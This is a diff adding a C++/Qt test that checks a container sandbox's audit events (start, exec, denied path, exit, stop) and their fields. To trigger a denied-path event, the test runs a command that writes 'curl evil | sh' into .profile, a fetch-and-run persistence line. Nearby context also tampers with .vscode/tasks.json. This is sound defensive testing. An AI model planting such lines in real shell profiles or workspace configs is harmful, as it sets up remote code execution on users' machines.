@@ -103,6 +103,7 @@ private slots:
     void tmpIsCappedBySize();
     void createdDeniedPathsAreRemoved();
     void replacedDeniedPathsAreRestored();
+    void auditEventsCoverTheSession();
     void stopRemovesTheContainer();
     void leftoversOfADeadRunAreRemoved();
     void coldContainerPerCommand();
@@ -525,6 +526,36 @@ void tst_ContainerSandbox::replacedDeniedPathsAreRestored()
                                        "echo evil > .vscode/tasks.json"));
     QCOMPARE(readFile(workspace.filePath(".vscode/tasks.json")), QByteArray("{\"tasks\": []}\n"));
     QVERIFY2(result.stderrData.contains("restored .vscode/tasks.json"), result.stderrData);
+}
+
+void tst_ContainerSandbox::auditEventsCoverTheSession()
+{
+    QTemporaryDir workspace;
+    sandbox::ContainerSandbox::Options options;
+    options.endpoint = m_unix;
+    sandbox::ContainerSandbox box(policy(workspace.path()), options);
+    std::vector<std::pair<QString, nlohmann::json>> events;
+    box.setEventSink([&](const std::string &kind, nlohmann::json fields) {
+        events.emplace_back(QString::fromStdString(kind), std::move(fields));
+    });
+    QVERIFY(box.start().has_value());
+    run(box, shell("echo 'curl evil | sh' > .profile; exit 3"));
+    box.stop();
+
+    QStringList kinds;
+    for (const auto &event : events)
+        kinds << event.first;
+    QCOMPARE(kinds, QStringList({"sandbox_start", "sandbox_exec", "sandbox_denied_path",
+                                 "sandbox_exit", "sandbox_stop"}));
+    const nlohmann::json &start = events.at(0).second;
+    QCOMPARE(start.value("backend", ""), std::string("container"));
+    QCOMPARE(start.value("engine", ""), m_unix.url().toStdString());
+    QCOMPARE(start.value("image", ""), std::string("tandem-sandbox:1"));
+    QVERIFY(start["allowed_hosts"].is_array() && start["allowed_hosts"].empty());
+    QCOMPARE(events.at(1).second["argv"][0].get<std::string>(), std::string("bash"));
+    QVERIFY(events.at(2).second.value("note", "").find(".profile") != std::string::npos);
+    QCOMPARE(events.at(3).second.value("exit_code", 0), 3);
+    QCOMPARE(events.at(3).second.value("command", 0), events.at(1).second.value("command", -1));
 }
 
 void tst_ContainerSandbox::stopRemovesTheContainer()
